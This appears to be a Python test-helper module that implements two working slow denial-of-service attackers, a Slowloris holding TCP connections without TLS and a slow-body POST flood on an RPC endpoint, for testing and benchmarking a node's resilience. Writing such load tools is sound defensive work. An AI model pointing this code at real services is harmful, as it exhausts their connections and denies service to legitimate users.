"""Attackers for tests and benchmarks (issue 8): a slowloris on the device port, slow RPC bodies.

Both run in a thread of their own with plain sockets, so they load the node and not the caller's
event loop, and both keep their pressure up: a socket the node closes is opened again.

    with Slowloris("127.0.0.1", edge_port, sources=[f"127.0.0.{i}" for i in range(2, 12)],
                   count=1000):
        ...   # 1000 TCP connections that never start TLS, from 10 addresses

    with SlowBodies("127.0.0.1", rpc_port, count=100, interval=1.0):
        ...   # 100 POSTs whose body arrives one byte per second
"""

from __future__ import annotations

import contextlib
import itertools
import selectors
import socket
import threading
import time
from collections.abc import Sequence
from types import TracebackType

__all__ = ["SlowBodies", "Slowloris"]


class _Attacker:
    """Keeps ``count`` sockets open to (host, port), reopening those the node closes."""

    def __init__(self, host: str, port: int, count: int, sources: Sequence[str] = ()) -> None:
        self.host, self.port, self.count = host, port, count
        self._sources = itertools.cycle(sources or [""])
        self._selector = selectors.DefaultSelector()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name=type(self).__name__, daemon=True)
        self.opened = 0  # connections made in all
        self.closed_by_node = 0  # of those, closed by the other end
        self.failed = 0  # connects refused or timed out

    def __enter__(self) -> _Attacker:
        self.start()
        return self

    def __exit__(self, *exc: type[BaseException] | BaseException | TracebackType | None) -> None:
        self.stop()

    @property
    def open_now(self) -> int:
        return len(self._selector.get_map())

    def start(self, ready_timeout: float = 60.0) -> None:
        self._thread.start()
        deadline = time.monotonic() + ready_timeout
        while self.opened < self.count and time.monotonic() < deadline and self._thread.is_alive():
            time.sleep(0.01)

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(10)
        for key in list(self._selector.get_map().values()):
            with contextlib.suppress(OSError):
                key.fileobj.close()  # type: ignore[union-attr]
        self._selector.close()

    def _connect(self) -> None:
        source = next(self._sources)
        try:
            sock = socket.create_connection(
                (self.host, self.port), timeout=2.0, source_address=(source, 0) if source else None
            )
        except OSError:
            self.failed += 1
            time.sleep(0.01)
            return
        sock.setblocking(False)
        self.opened += 1
        self._selector.register(sock, selectors.EVENT_READ, time.monotonic())
        self.on_open(sock)

    def on_open(self, sock: socket.socket) -> None:
        """Send what the attack sends first (nothing, for a slowloris)."""

    def on_tick(self, sock: socket.socket, opened_at: float) -> None:
        """Called about every 50 ms for each open socket."""

    def _run(self) -> None:
        while not self._stop.is_set():
            while self.open_now < self.count and not self._stop.is_set():
                self._connect()
            for key, _ in self._selector.select(0.05):
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                try:
                    data = sock.recv(4096)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:
                    self.closed_by_node += 1
                    self._selector.unregister(sock)
                    sock.close()
            for key in list(self._selector.get_map().values()):
                sock = key.fileobj
                assert isinstance(sock, socket.socket)
                self.on_tick(sock, key.data)


class Slowloris(_Attacker):
    """TCP connections to the device port that never start TLS."""


class SlowBodies(_Attacker):
    """POST /rpc with a 1000-byte Content-Length whose body comes one byte every ``interval`` s."""

    def __init__(self, host: str, port: int, count: int, interval: float = 15.0) -> None:
        super().__init__(host, port, count)
        self.interval = interval
        self._next: dict[int, float] = {}

    def on_open(self, sock: socket.socket) -> None:
        head = (
            f"POST /rpc HTTP/1.1\r\nHost: {self.host}\r\nContent-Type: application/json\r\n"
            "Content-Length: 1000\r\n\r\n["
        )
        with contextlib.suppress(OSError):
            sock.send(head.encode())
        self._next[sock.fileno()] = time.monotonic() + self.interval

    def on_tick(self, sock: socket.socket, opened_at: float) -> None:
        fd = sock.fileno()
        now = time.monotonic()
        if now >= self._next.get(fd, now + 1):
            self._next[fd] = now + self.interval
            with contextlib.suppress(OSError):
                sock.send(b" ")
